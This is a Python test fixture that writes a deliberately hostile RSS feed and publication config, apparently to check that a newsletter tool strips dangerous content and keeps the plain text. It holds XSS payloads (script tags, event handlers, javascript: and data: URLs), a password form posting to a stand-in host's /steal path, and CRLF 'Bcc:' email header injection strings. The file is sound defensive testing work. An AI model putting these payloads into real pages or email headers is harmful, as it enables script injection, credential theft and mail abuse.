"""A publication whose feed is hostile: scripts, javascript: URLs, headers in a title."""

from __future__ import annotations

from html import escape
from pathlib import Path

HOST = "hostile.example"
KEPT_TEXTS = ("The title stays", "The summary stays", "The author stays", "The body stays", "The caption stays")
"""The harmless text of the feed, which is kept."""

_SCRIPT = "<script>alert(1)</script>"
_BODY = f"""<p onclick="alert(1)">The body stays {_SCRIPT}<img src="x" onerror="alert(1)"> for
<a href="javascript:alert(1)">everybody</a> and <a href="data:text/html,{_SCRIPT}">anybody</a>.
<svg onload="alert(1)"><circle/></svg><iframe src="https://{HOST}/"></iframe><style>* {{ display: none }}</style>
<form action="https://{HOST}/steal"><input name="password"></form>
<a href="https://{HOST}/&quot;onmouseover=&quot;alert(1)">A link</a> <base href="https://{HOST}/">
<math><mtext></p><!--[if mso]><p>Outlook only</p><![endif]--> {{{{ digest.subject }}}} *|UNSUB|*</p>"""
_ITEMS = (
    ("https://{host}/a", f"{_SCRIPT}The title stays\r\nBcc: all@{HOST}", _BODY),
    ("javascript:alert(document.cookie)", "The summary stays --> <!-- ]]>", "<p>" * 300 + "deep"),
    ("https://{host}/c?a=1&b=<script>", "The author stays =?utf-8?q?=0D=0ABcc:_x?=", f"<![CDATA[{_SCRIPT}]]>"),
    ("data:text/html;base64,PHNj", "The caption stays ' onload='alert(1)", '<img alt="x" src="data:image/png,">'),
)


def write_publication(folder: Path) -> Path:
    """Write config.toml and the feed that replaces the network; return the path of config.toml."""
    page = folder / "fixtures" / HOST / "feed.xml"
    page.parent.mkdir(parents=True)
    page.write_text(_feed(), encoding="utf-8")
    config = folder / "config.toml"
    config.write_text(
        f"""[publication]
name = "Hostile <b>&</b> Co {_SCRIPT}"
url = "https://{HOST}/"
sender = "Hostile & Co <letter@{HOST}>"
postal_address = "3 Net Loft Lane <img src=x onerror=alert(1)>"
[[feeds]]
id = "blog"
url = "https://{HOST}/feed.xml"
kind = "blog"
[fetch]
fixtures = "fixtures"
""",
        encoding="utf-8",
    )
    return config


def _feed() -> str:
    items = "".join(_item(number, *each) for number, each in enumerate(_ITEMS))
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{escape(_SCRIPT)}</title><link>javascript:alert(1)</link>{items}</channel></rss>"
    )


def _item(number: int, link: str, title: str, body: str) -> str:
    return (
        f"<item><guid>{number}</guid><title>{escape(title)}</title><link>{escape(link.format(host=HOST))}</link>"
        f"<dc:creator>{escape(_SCRIPT)} &quot;Ann&quot;</dc:creator>"
        f"<pubDate>Tue, 10 Feb 2026 1{number}:00:00 +0000</pubDate>"
        f"<content:encoded>{escape(body)}</content:encoded></item>"
    )
